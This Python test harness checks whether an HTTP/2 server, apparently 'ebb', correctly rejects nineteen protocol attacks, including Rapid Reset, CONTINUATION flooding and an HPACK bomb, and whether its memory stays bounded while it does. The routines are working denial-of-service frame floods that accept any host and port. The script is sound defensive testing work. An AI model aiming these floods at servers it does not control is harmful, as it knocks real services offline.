#!/usr/bin/env python3
"""HTTP/2 attacks against a server speaking h2c with prior knowledge.

Each attack runs on a fresh connection, sends raw frames (struct and a
literal-only HPACK encoder; the stdlib only) while reading the server's
frames, and checks that the server ends it the way RFC 9113 says (GOAWAY or
RST_STREAM with the expected code) within a bounded number of bytes sent.
With --pid, the server's resident memory (VmRSS/VmHWM in /proc/PID/status)
is read around every attack and must stay under a bound.

    attack.py HOST:PORT [--pid PID] [--stall-ms MS] [--only NAME,...]

Expectations are those of ebb's HTTP/2 core (crates/ebb/src/h2/conn.rs);
--stall-ms is the server's stall timeout for the zero-window reader (the
attack waits up to ten times that, and the time it takes is no assertion).
Prints `pass NAME: ...` / `FAIL NAME: ...`, then `N passed, N failed`; exits
non-zero on a failure.
"""

import argparse
import os
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
S_MAX_CONCURRENT, S_INITIAL_WINDOW = 0x3, 0x4
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
         3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
         7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
         0xb: "ENHANCE_YOUR_CALM"}
CODE = {v: k for k, v in CODES.items()}

# Bounds the attacks are checked against.
MAX_SENT = 64 << 20      # an attack must be ended before this many bytes
RSS_GROWTH = 64 << 20    # peak RSS may grow by at most this much
SAFETY_SECS = 300        # a hung attack fails instead of hanging the suite


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def settings(params=()):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in params))


def hpack_int(value, prefix_bits, first):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7, 0) + s


def literal(name, value, indexed=False):
    """A literal field with a literal name; `indexed` adds it to the table."""
    return (b"\x40" if indexed else b"\x00") + hpack_str(name) + hpack_str(value)


def request_block(method=b"GET", path=b"/", extra=()):
    b = literal(b":method", method) + literal(b":scheme", b"http") + \
        literal(b":authority", b"localhost") + literal(b":path", path)
    for n, v in extra:
        b += literal(n, v)
    return b


def headers(stream, block, end_stream=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)


# The :status of a response: static entries 8-14, else a literal whose
# value may be Huffman-coded; status digits use these codes (RFC 7541 B).
STATIC_STATUS = {8: b"200", 9: b"204", 10: b"206", 11: b"304", 12: b"400",
                 13: b"404", 14: b"500"}
DIGIT_CODES = {"00000": b"0", "00001": b"1", "00010": b"2", "011001": b"3",
               "011010": b"4", "011011": b"5", "011100": b"6", "011101": b"7",
               "011110": b"8", "011111": b"9"}


def status_of(block):
    """The :status of a response field block (its first field), or None."""
    if not block:
        return None
    b0 = block[0]
    if b0 & 0x80:
        return STATIC_STATUS.get(b0 & 0x7f)
    # Literal with an indexed :status name: 0x48 (incremental), 0x08/0x18.
    if b0 not in (0x48, 0x08, 0x18) or len(block) < 2:
        return None
    huff, n = block[1] & 0x80, block[1] & 0x7f
    raw = block[2:2 + n]
    if not huff:
        return raw
    bits = "".join(f"{x:08b}" for x in raw)
    out, cur = b"", ""
    for bit in bits:
        cur += bit
        if cur in DIGIT_CODES:
            out, cur = out + DIGIT_CODES[cur], ""
    return out if set(cur) <= {"1"} else None


class Peer:
    """One connection: sends while reading, parses the server's frames."""

    def __init__(self, addr, client_settings=()):
        self.sock = socket.create_connection(addr)
        self.sock.setblocking(False)
        self.inbuf = b""
        self.frames = []        # (kind, flags, stream, payload)
        self.eof = False
        self.sent = 0
        self.peer_settings = {}
        self.acks = b""         # answers queued while reading
        self.send(PREFACE + settings(client_settings))
        # The server's SETTINGS, acknowledged before any attack frame (an
        # ACK inside a header block would be a protocol error of ours).
        self.wait(lambda q: any(k == SETTINGS and not f & ACK for k, f, _, _ in q.frames))
        self.send(b"")

    def close(self):
        self.sock.close()

    def _read(self):
        while True:
            try:
                b = self.sock.recv(65536)
            except BlockingIOError:
                return
            except (ConnectionResetError, BrokenPipeError):
                self.eof = True
                return
            if not b:
                self.eof = True
                return
            self.inbuf += b
            while len(self.inbuf) >= 9:
                n = int.from_bytes(self.inbuf[:3], "big")
                if len(self.inbuf) < 9 + n:
                    break
                kind, flags = self.inbuf[3], self.inbuf[4]
                stream = int.from_bytes(self.inbuf[5:9], "big") & 0x7fffffff
                payload = self.inbuf[9:9 + n]
                self.inbuf = self.inbuf[9 + n:]
                self._on_frame(kind, flags, stream, payload)

    def _on_frame(self, kind, flags, stream, payload):
        self.frames.append((kind, flags, stream, payload))
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                self.peer_settings[k] = v
            self.acks += frame(SETTINGS, ACK, 0)

    def send(self, data):
        """Sends `data`, reading meanwhile; False once the peer is gone.
        SETTINGS ACKs owed are sent after it."""
        view = memoryview(data)
        while not self.eof:
            if not view:
                if not self.acks:
                    break
                view, self.acks = memoryview(self.acks), b""
            r, w, _ = select.select([self.sock], [self.sock], [], 5)
            if r:
                self._read()
            if w and not self.eof:
                try:
                    n = self.sock.send(view)
                except BlockingIOError:
                    continue
                except (ConnectionResetError, BrokenPipeError):
                    self.eof = True
                    break
                self.sent += n
                view = view[n:]
        self._read()
        return not self.eof

    def wait(self, cond, secs=30):
        """Reads until cond(self) holds or the peer closes; returns cond.
        The bound is far from any expected wait (a loaded machine must not
        fail an attack that ends as it should; the wait ends on the event)."""
        end = time.monotonic() + secs
        while not cond(self) and not self.eof and time.monotonic() < end:
            if self.acks:
                self.send(b"")
            r, _, _ = select.select([self.sock], [], [], 0.5)
            if r:
                self._read()
        return cond(self)

    def goaway(self):
        for kind, _, _, p in self.frames:
            if kind == GOAWAY and len(p) >= 8:
                return CODES.get(int.from_bytes(p[4:8], "big"), hex(int.from_bytes(p[4:8], "big")))
        return None

    def rsts(self):
        return [(s, CODES.get(int.from_bytes(p[:4], "big"), "?"))
                for kind, _, s, p in self.frames if kind == RST_STREAM and len(p) == 4]

    def status(self, stream):
        block = b"".join(p for kind, _, s, p in self.frames
                         if s == stream and kind in (HEADERS, CONTINUATION))
        return status_of(block)

    def ended(self, stream):
        """The server ended `stream`: END_STREAM or RST_STREAM."""
        return any(s == stream and (kind == RST_STREAM or
                                    kind in (HEADERS, DATA) and f & END_STREAM)
                   for kind, f, s, _ in self.frames)

    def data_bytes(self, stream):
        return sum(len(p) for kind, _, s, p in self.frames if kind == DATA and s == stream)


def flood(peer, unit, want_goaway):
    """Sends `unit` until a GOAWAY or the byte bound; checks the code."""
    start = time.monotonic()
    while peer.goaway() is None and not peer.eof and peer.sent < MAX_SENT \
            and time.monotonic() - start < SAFETY_SECS:
        peer.send(unit)
    peer.wait(lambda p: p.goaway() is not None)
    got = peer.goaway()
    return got == want_goaway, f"GOAWAY {got} after {peer.sent} bytes sent (want {want_goaway})"


# --- the attacks -----------------------------------------------------------


def rapid_reset(addr, _):
    """CVE-2023-44487: requests (a body still to come, so the server holds
    the stream) each cancelled at once."""
    p = Peer(addr)
    ids = iter(range(1, 1 << 31, 2))
    batch = lambda: b"".join(
        headers(i, request_block(b"POST"), False) + frame(RST_STREAM, 0, i, struct.pack(">I", 8))
        for i in (next(ids) for _ in range(50)))
    start = time.monotonic()
    while p.goaway() is None and not p.eof and p.sent < MAX_SENT \
            and time.monotonic() - start < SAFETY_SECS:
        p.send(batch())
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "ENHANCE_YOUR_CALM", f"GOAWAY {p.goaway()} after {p.sent} bytes"


def continuation_flood(addr, _):
    """CVE-2024-27316: a header block that never ends."""
    p = Peer(addr)
    p.send(frame(HEADERS, 0, 1, request_block()))
    return flood(p, b"".join(frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 1000))
                             for _ in range(16)), "ENHANCE_YOUR_CALM")


def hpack_bomb(addr, _):
    """A 4 KB table entry referenced 150 times: 600 KB decoded from 4 KB,
    in fewer fields than a block may have (201, see too_many_fields).
    Answered 431 (the list is over SETTINGS_MAX_HEADER_LIST_SIZE), the
    connection goes on."""
    p = Peer(addr)
    block = request_block() + literal(b"x-big", b"a" * 4000, indexed=True) + b"\xbe" * 150
    p.send(headers(1, block))
    p.wait(lambda q: q.ended(1))
    st = p.status(1)
    p.send(frame(PING, 0, 0, b"stillup!"))
    alive = p.wait(lambda q: any(k == PING and f & ACK for k, f, _, _ in q.frames))
    return st == b"431" and alive, f"status {st}, connection alive {alive}"


def oversized_list(addr, _):
    """A plainly oversized header list (150 fields of 150 bytes), sent in
    HEADERS + CONTINUATION: 431."""
    p = Peer(addr)
    block = request_block(extra=[(b"x-f%d" % i, b"v" * 150) for i in range(150)])
    cut = 16000
    p.send(frame(HEADERS, END_STREAM, 1, block[:cut]) +
           frame(CONTINUATION, END_HEADERS, 1, block[cut:]))
    p.wait(lambda q: q.ended(1))
    st = p.status(1)
    return st == b"431", f"status {st}, RST {p.rsts()}"


def too_many_fields(addr, _):
    """A block of more fields than HAProxy 2.6's HPACK list holds (2 x
    tune.http.maxhdr entries, the end mark one of them: 201 fields by
    default), each a one-byte index: GOAWAY COMPRESSION_ERROR, as
    HAProxy's."""
    p = Peer(addr)
    # `accept` (static 19) 198 times past the four pseudo-header fields.
    p.send(headers(1, request_block() + b"\x93" * 198))
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "COMPRESSION_ERROR", f"GOAWAY {p.goaway()}"


def trailer_flood(addr, _):
    """A request whose trailer section has 100,000 fields (HEADERS and
    CONTINUATION frames of 16 KB after a DATA frame): the block is never
    taken whole; the connection or the stream ends with an error (a
    server may have answered the request before its trailer came, then
    refuses the frames of the stream it closed), memory stays flat."""
    p = Peer(addr)
    p.send(headers(1, request_block(b"POST"), False) + frame(DATA, 0, 1, b"x"))
    fields = literal(b"x-t", b"v") * 100000
    parts = [fields[i:i + 16000] for i in range(0, len(fields), 16000)]
    out = frame(HEADERS, END_STREAM, 1, parts[0])
    for i, part in enumerate(parts[1:], 2):
        out += frame(CONTINUATION, END_HEADERS if i == len(parts) else 0, 1, part)
    p.send(out)
    p.wait(lambda q: q.goaway() is not None or q.rsts() or q.ended(1))
    st = p.status(1)
    ok = st in (None, b"200") and (p.goaway() not in (None, "NO_ERROR") or bool(p.rsts()))
    return ok, f"GOAWAY {p.goaway()}, RST {p.rsts()}, status {st} after {p.sent} bytes"


def settings_flood(addr, _):
    return flood(Peer(addr), settings([(S_INITIAL_WINDOW, 65535)]) * 100, "ENHANCE_YOUR_CALM")


def ping_flood(addr, _):
    return flood(Peer(addr), frame(PING, 0, 0, b"12345678") * 100, "ENHANCE_YOUR_CALM")


def empty_data_flood(addr, _):
    p = Peer(addr)
    p.send(headers(1, request_block(b"POST"), False))
    return flood(p, frame(DATA, 0, 1) * 100, "ENHANCE_YOUR_CALM")


def window_update_flood(addr, _):
    """Tiny (1-byte) increments on the connection."""
    return flood(Peer(addr), frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100,
                 "ENHANCE_YOUR_CALM")


def zero_window_update_flood(addr, _):
    """0 increments on a stream: each a stream error (RST_STREAM)."""
    p = Peer(addr)
    p.send(headers(1, request_block(b"POST"), False))
    return flood(p, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\0") * 100, "ENHANCE_YOUR_CALM")


def zero_window_reader(addr, args):
    """Opens no window: no DATA may come, the stream is reset CANCEL once
    the server's stall timeout passes."""
    p = Peer(addr, [(S_INITIAL_WINDOW, 0)])
    p.send(headers(1, request_block()))
    secs = max(10, args.stall_ms * 10 / 1000)
    p.wait(lambda q: q.ended(1), secs)
    n = p.data_bytes(1)
    return (1, "CANCEL") in p.rsts() and n == 0, f"{n} DATA bytes, RST {p.rsts()}"


def stream_id_regression(addr, _):
    p = Peer(addr)
    p.send(headers(5, request_block()) + headers(3, request_block()))
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "PROTOCOL_ERROR", f"GOAWAY {p.goaway()}"


def even_stream_id(addr, _):
    p = Peer(addr)
    p.send(headers(2, request_block()))
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "PROTOCOL_ERROR", f"GOAWAY {p.goaway()}"


def stream_id_reuse(addr, _):
    p = Peer(addr)
    p.send(headers(1, request_block()))
    p.wait(lambda q: q.ended(1))
    p.send(headers(1, request_block()))
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "STREAM_CLOSED", f"GOAWAY {p.goaway()}"


def data_on_closed_stream(addr, _):
    p = Peer(addr)
    p.send(headers(1, request_block()))
    p.wait(lambda q: q.ended(1))
    p.send(frame(DATA, 0, 1, b"late"))
    p.wait(lambda q: q.rsts())
    return (1, "STREAM_CLOSED") in p.rsts() and p.goaway() is None, \
        f"RST {p.rsts()}, GOAWAY {p.goaway()}"


def data_after_end_stream(addr, _):
    p = Peer(addr)
    p.send(headers(1, request_block()) + frame(DATA, 0, 1, b"x"))
    p.wait(lambda q: q.rsts())
    return (1, "STREAM_CLOSED") in p.rsts(), f"RST {p.rsts()}"


def oversized_frame(addr, _):
    """A DATA header announcing 16385 bytes: refused before its payload."""
    p = Peer(addr)
    p.send(headers(1, request_block(b"POST"), False) + struct.pack(">I", 16385)[1:] +
           bytes([DATA, 0]) + struct.pack(">I", 1))
    p.wait(lambda q: q.goaway() is not None)
    return p.goaway() == "FRAME_SIZE_ERROR", f"GOAWAY {p.goaway()}"


def too_many_streams(addr, _):
    """One stream more than SETTINGS_MAX_CONCURRENT_STREAMS, all held open."""
    p = Peer(addr)
    p.wait(lambda q: S_MAX_CONCURRENT in q.peer_settings)
    limit = p.peer_settings.get(S_MAX_CONCURRENT)
    if limit is None or limit > 10000:
        return False, f"no usable SETTINGS_MAX_CONCURRENT_STREAMS ({limit})"
    last = 2 * limit + 1
    p.send(b"".join(headers(i, request_block(b"POST"), False) for i in range(1, last + 1, 2)))
    p.wait(lambda q: any(sid == last for sid, _ in q.rsts()))
    # The stream over the limit is refused. A server that answered a
    # stream before its request body came may end it with NO_ERROR
    # (RFC 9113 section 8.1); any other reset is a failure.
    others = [(sid, e) for sid, e in p.rsts() if sid != last]
    ok = (last, "REFUSED_STREAM") in p.rsts() and all(
        e == "NO_ERROR" and sid < last for sid, e in others)
    return ok, f"limit {limit}, RST {p.rsts()[:4]}... ({len(p.rsts())} in all)"


ATTACKS = [rapid_reset, continuation_flood, hpack_bomb, oversized_list, too_many_fields,
           trailer_flood, settings_flood,
           ping_flood, empty_data_flood, window_update_flood, zero_window_update_flood,
           zero_window_reader, stream_id_regression, even_stream_id, stream_id_reuse,
           data_on_closed_stream, data_after_end_stream, oversized_frame, too_many_streams]


def rss(pid):
    """(VmRSS, VmHWM) in bytes."""
    vals = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            k, _, v = line.partition(":")
            if k in ("VmRSS", "VmHWM"):
                vals[k] = int(v.split()[0]) * 1024
    return vals.get("VmRSS", 0), vals.get("VmHWM", 0)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("target", help="HOST:PORT")
    ap.add_argument("--pid", type=int, help="server process whose memory is checked")
    ap.add_argument("--stall-ms", type=int, default=30000,
                    help="the server's stall timeout (zero-window reader)")
    ap.add_argument("--only", help="comma-separated attack names")
    args = ap.parse_args()
    host, _, port = args.target.rpartition(":")
    addr = (host or "127.0.0.1", int(port))
    chosen = ATTACKS
    if args.only:
        names = args.only.split(",")
        chosen = [a for a in ATTACKS if a.__name__ in names]
        if len(chosen) != len(names):
            sys.exit(f"unknown attack in {names}; known: {[a.__name__ for a in ATTACKS]}")
    base = rss(args.pid) if args.pid else None
    passed = failed = 0
    for attack in chosen:
        t0 = time.monotonic()
        try:
            ok, what = attack(addr, args)
        except OSError as e:
            ok, what = False, f"socket error {e}"
        what += f" ({time.monotonic() - t0:.1f} s)"
        if args.pid:
            cur, peak = rss(args.pid)
            what += f"; server RSS {cur >> 10} KiB, peak {peak >> 10} KiB"
            if peak - base[1] > RSS_GROWTH:
                ok, what = False, what + f" (peak grew over {RSS_GROWTH >> 20} MiB)"
        print(f"{'pass' if ok else 'FAIL'} {attack.__name__}: {what}", flush=True)
        passed, failed = passed + ok, failed + (not ok)
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
